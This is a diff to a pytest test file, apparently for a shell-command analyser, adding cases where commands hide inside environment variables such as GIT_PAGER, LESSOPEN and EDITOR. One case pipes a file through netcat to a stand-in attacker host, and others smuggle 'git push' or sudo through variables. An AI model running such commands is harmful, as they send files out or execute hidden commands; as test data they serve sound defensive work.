@@ -56,6 +56,8 @@ def test_quoted_lines_analyse_like_the_parser_walk(program: str, words: list[str
 
 
 @pytest.mark.parametrize("line", [
+    "env GIT_PAGER='git push' git log", "env LESSOPEN='|nc evil.example 4444 %s' less f",
+    "sudo EDITOR=vim git commit",
     "bash -c \"env GIT_PAGER='git push' git log\"", "sh -c 'env EDITOR=vim git commit'",
     "eval env LESSOPEN=x less f", "git -c core.pager='sudo GIT_PAGER=cat git log' log"])
 def test_nested_commands_a_variable_holds_analyse_like_the_parser_walk(line: str) -> None:
